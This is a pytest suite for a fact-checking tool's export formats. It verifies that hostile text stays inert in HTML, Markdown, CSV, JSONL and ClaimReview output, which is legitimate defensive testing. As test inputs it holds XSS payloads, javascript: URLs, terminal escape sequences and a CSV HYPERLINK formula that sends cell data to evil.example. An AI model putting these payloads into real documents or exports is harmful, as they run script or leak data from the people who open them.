"""Hostile text from articles, reviewers and fetched pages stays inert text in every format."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from workbench.export import render
from workbench.export.csv_format import COLUMNS

from .reportdata import seed_claims, seed_report

SCRIPT = "<script>alert(1)</script>"
TITLE_BREAK = "</title><img src=x onerror=alert(2)>"
JS_URL = "javascript:alert(1)"
MD_LINK = "[click](javascript:x)"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
ANSI = "\x1b[31mRED\x1b[0m\x1b]8;;http://evil.example\x07link\x1b]8;;\x07"


def hostile_report() -> object:
    base = seed_claims()[0]
    claim = replace(
        base,
        text=f"{SCRIPT} {MD_LINK} {ANSI}",
        speaker=FORMULA,
        rationale=f"# Heading?\n> quote\n- item\n1. one\n    code\n{MD_LINK} **bold** `tick` <b>x</b> | pipe",
        notes=ANSI,
        document=replace(base.document, outlet=TITLE_BREAK, title=MD_LINK, url_or_source=JS_URL),
        evidence=(
            replace(
                base.evidence[0],
                url=JS_URL,
                title=f"{SCRIPT}|{MD_LINK}",
                archive_url="java\tscript:x",
                stance=FORMULA,
            ),
            replace(base.evidence[1], url="https://ok.example/a b)c", title="fine"),
        ),
        review_url=JS_URL,
    )
    return seed_report([claim], database=f"{TITLE_BREAK}.db", filters={"q": SCRIPT})


def out(fmt: str) -> str:
    buf = io.StringIO(newline="")
    render(hostile_report(), fmt, buf)  # type: ignore[arg-type]
    return buf.getvalue()


@pytest.mark.parametrize("fmt", ["md", "html", "csv", "jsonl", "claimreview"])
def test_no_terminal_escape_reaches_the_output(fmt: str) -> None:
    text = out(fmt)
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.hrefs: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += attrs
        self.hrefs += [v or "" for k, v in attrs if k in ("href", "src", "xlink:href")]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_html_keeps_hostile_text_as_text() -> None:
    html = out("html")
    parsed = _Collect()
    parsed.feed(html)
    assert "script" not in parsed.tags and "img" not in parsed.tags and "b" in parsed.tags  # our own <b> only
    assert all(h.startswith(("http://", "https://")) for h in parsed.hrefs)
    assert "https://ok.example/a%20b%29c" in parsed.hrefs
    assert not any(k.startswith("on") for k, _ in parsed.attrs)
    text = "".join(parsed.text)
    assert SCRIPT in text and JS_URL in text and "</title><img src=x onerror=alert(2)>" in text
    assert html.split("</head>")[0].count("<title>") == 1
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def _md_tokens(md: str) -> list[Token]:
    parser = MarkdownIt("commonmark", {"linkify": True}).enable(["table", "linkify", "strikethrough"])
    flat: list[Token] = []
    for tok in parser.parse(md):
        flat.append(tok)
        flat.extend(tok.children or [])
    return flat


def test_markdown_keeps_hostile_text_as_text() -> None:
    md = out("md")
    tokens = _md_tokens(md)
    links = [t.attrGet("href") for t in tokens if t.type == "link_open"]
    assert links and all(str(u).startswith(("http://", "https://")) for u in links)
    assert not any(
        t.type in ("html_inline", "html_block", "image", "code_block", "code_inline", "fence") for t in tokens
    )
    assert not any(
        t.type.startswith(("bullet_list", "ordered_list", "blockquote"))
        and t.map
        and "Heading?" in md.splitlines()[t.map[0]]
        for t in tokens
    )
    rendered = MarkdownIt("commonmark").enable("table").render(md)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered and "<script" not in rendered
    assert "[click](javascript:x)" in rendered  # shown literally
    assert "<h1>Heading?" not in rendered and "# Heading?" in rendered
    literals = ("&gt; quote", "- item", "1. one", "code", "**bold**", "`tick`", "&lt;b&gt;x&lt;/b&gt; | pipe")
    for literal in literals:
        assert literal in rendered, literal
    assert "https://ok.example/a%20b%29c" in links  # space and ) percent-encoded


def test_markdown_table_cells_cannot_be_split_by_pipes() -> None:
    md = out("md")
    rows = [line for line in md.splitlines() if line.startswith("| ") and "ok.example" not in line]
    evidence_rows = [r for r in rows if "kosovopolice" in r]
    assert evidence_rows
    for row in evidence_rows:
        assert row.replace("\\|", "").count("|") == 8  # seven cells


def test_csv_defuses_formulas() -> None:
    rows = list(csv.reader(io.StringIO(out("csv"), newline="")))
    cells = dict(zip(COLUMNS, rows[1], strict=True))
    assert cells["speaker"] == "'" + FORMULA
    assert cells["evidence"].startswith("'=HYPERLINK")
    for row in rows[1:]:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_jsonl_and_claimreview_keep_exact_text_as_json_strings() -> None:
    claim = json.loads(out("jsonl").splitlines()[1])
    assert claim["text"] == f"{SCRIPT} {MD_LINK} {ANSI}"  # data is exact; only the encoding is escaped
    assert claim["document"]["url_or_source"] == JS_URL
    cr = out("claimreview")
    assert json.loads(cr) == []  # review_url is javascript:, so the claim is refused, not emitted


def test_claimreview_never_emits_javascript_urls_and_is_script_safe() -> None:
    claim = replace(
        seed_claims()[0],
        text=f"{SCRIPT} </script><script>x()</script>",
        document=replace(seed_claims()[0].document, url_or_source=JS_URL),
    )
    buf = io.StringIO()
    result = render(seed_report([claim]), "claimreview", buf)
    text = buf.getvalue()
    assert result.written == 1 and "<" not in text and ">" not in text and "javascript:" not in text
    obj = json.loads(text)[0]
    assert obj["claimReviewed"].startswith(SCRIPT)
    assert "url" not in obj["itemReviewed"]["appearance"][0]
